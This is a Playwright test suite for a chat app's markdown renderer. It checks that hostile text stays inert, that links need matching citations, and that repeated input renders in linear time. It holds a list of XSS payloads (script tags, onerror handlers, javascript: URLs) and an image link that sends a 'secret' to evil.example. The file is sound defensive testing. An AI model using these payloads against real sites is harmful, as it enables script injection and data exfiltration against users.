"""Text that documents or a model could carry to attack the reader: it stays text."""

from __future__ import annotations

import pytest
from chat_answers import RUNBOOK, done
from chat_browser import Chat
from chat_stub import Event
from playwright.sync_api import expect

pytestmark = [pytest.mark.browser, pytest.mark.slow]

PAYLOADS = [
    "<img src=https://evil.example/x.png onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)><iframe src=https://evil.example>",
    "![pixel](https://evil.example/p.png?q=secret)",
    "[click](javascript:alert(1)) [more](data:text/html,<script>alert(1)</script>)",
    "[elsewhere](https://evil.example/login) <https://evil.example> https://evil.example",
    '[quoted](https://docs.example/runbooks/pos-sync"onmouseover="alert(1))',
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](vbscript:alert(1)) |",
    "```html\n<script>alert(1)</script>\n```",
    "# <b onclick=alert(1)>heading</b>",
    "1. <style>*{background:url(https://evil.example/c)}</style>",
    "> <base href=https://evil.example>",
]


def hostile(payload: str) -> list[Event]:
    citation = RUNBOOK | {
        "url": "javascript:alert(document.domain)",
        "title": "<img src=x onerror=alert(1)>",
        "quote": "<script>alert(1)</script>",
        "heading_path": ["<iframe src=https://evil.example>"],
        "source": "<b>source</b>",
        "doc_type": "<i>type</i>",
    }
    text = f"{payload}\n\nEnd [1]."
    unit: Event = ("sentence", {"index": 0, "kind": "sentence", "text": text})
    return [
        ("meta", {"answer_id": "a", "conversation_id": "c"}),
        unit,
        ("citation", citation),
        done("x", text, [citation]),
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_stays_text(chat: Chat, payload: str) -> None:
    chat.service.script = lambda _: hostile(payload)
    chat.sign_in()
    answer = chat.ask("x")
    marker = answer.locator("p .cite")
    marker.click()
    card = chat.page.get_by_role("dialog")
    expect(card.locator("blockquote")).to_have_text("<script>alert(1)</script>")
    for place in (answer, card):
        expect(place.locator("a, img, iframe, script, style, base, b, i")).to_have_count(0)
        attributes = place.evaluate("root => [...root.querySelectorAll('*')].flatMap(n => n.getAttributeNames())")
        assert [name for name in attributes if name.startswith("on")] == []
    chat.page.wait_for_timeout(100)  # an attack that worked would fire by now; the fixture fails on it


def test_link_is_a_link_only_when_a_citation_has_its_address(chat: Chat) -> None:
    text = "See [the runbook](https://docs.example/runbooks/pos-sync) or [this](https://evil.example/) [1]."
    chat.service.script = lambda _: [
        ("sentence", {"index": 0, "kind": "sentence", "text": text}),
        ("citation", RUNBOOK),
        done("x", text, [RUNBOOK]),
    ]
    chat.sign_in()
    links = chat.ask("x").locator(".prose a")
    expect(links).to_have_text(["the runbook"])
    expect(links).to_have_attribute("rel", "noopener noreferrer")


def test_marker_without_a_citation_becomes_plain_text(chat: Chat) -> None:
    text = "Known [1], unknown [9]."
    chat.service.script = lambda _: [
        ("sentence", {"index": 0, "kind": "sentence", "text": text}),
        done("x", text, [RUNBOOK]),
    ]
    chat.sign_in()
    answer = chat.ask("x")
    expect(answer.locator(".prose")).to_have_text("Known1, unknown [9].")
    expect(answer.locator(".cite")).to_have_count(1)


@pytest.mark.parametrize(
    "unit", ["*", "_", "`", "[", "![", "[a](", "~~", "**a", "> ", "1. ", "|", "<", "\\", "- [1](", "``a`"]
)
def test_rendering_time_stays_linear_on_hostile_repetition(chat: Chat, unit: str) -> None:
    chat.page.goto(chat.service.base_url)
    elapsed_ms = chat.page.evaluate(
        """async unit => {
            const { MarkdownView } = await import("/chat/markdown.js");
            const hooks = { citation: n => String(n), link: () => null, revision: () => 0 };
            const start = performance.now();
            new MarkdownView(document.createElement("div"), hooks).show(unit.repeat(20_000 / unit.length));
            return performance.now() - start;
        }""",
        unit,
    )
    assert elapsed_ms < 2_000  # quadratic time takes minutes at 20,000 characters


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("store_id_1 and *this* and __that__", "<p>store_id_1 and <em>this</em> and <strong>that</strong></p>"),
        ("***both*** and 2 * 3 * 4", "<p><strong><em>both</em></strong> and 2 * 3 * 4</p>"),
        ("a  \nb\\\nc\nd", "<p>a  <br>b<br>c d</p>"),
        ("3. c\n4. d", '<ol><li value="3">c</li><li value="4">d</li></ol>'),
        ("1. a\n\n   more\n\n2. b", '<ol><li value="1">a<p>more</p></li><li value="2">b</li></ol>'),
        ("- a\n  - b\n- c", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"),
        ("1. a\n  - b\n2. c", '<ol><li value="1">a<ul><li>b</li></ul></li><li value="2">c</li></ol>'),
        ("```\na < b\n", "<pre><code>a &lt; b</code></pre>"),
        ("`` a ` b ``", "<p><code>a ` b</code></p>"),
        ("`a | b` \\*not\\*", "<p><code>a | b</code> *not*</p>"),
        ("### Steps ###\ntext", "<h5>Steps</h5><p>text</p>"),
        ("text\n---", "<p>text</p><hr>"),
        ("> said\n> so", "<blockquote><p>said so</p></blockquote>"),
        ("Fact [1][2], [3, 4].", "<p>Fact<span>(1)</span><span>(2),</span><span>(3)(4).</span></p>"),
    ],
)
def test_markdown_renders_as_written(chat: Chat, markdown: str, html: str) -> None:
    chat.page.goto(chat.service.base_url)
    rendered = chat.page.evaluate(
        """async text => {
            const { MarkdownView } = await import("/chat/markdown.js");
            const root = document.createElement("div");
            new MarkdownView(root, { citation: n => `(${n})`, link: () => null, revision: () => 0 }).show(text);
            for (const node of root.querySelectorAll("*"))
                for (const name of ["dir", "class", "tabindex"]) node.removeAttribute(name);
            return root.innerHTML;
        }""",
        markdown,
    )
    assert rendered == html
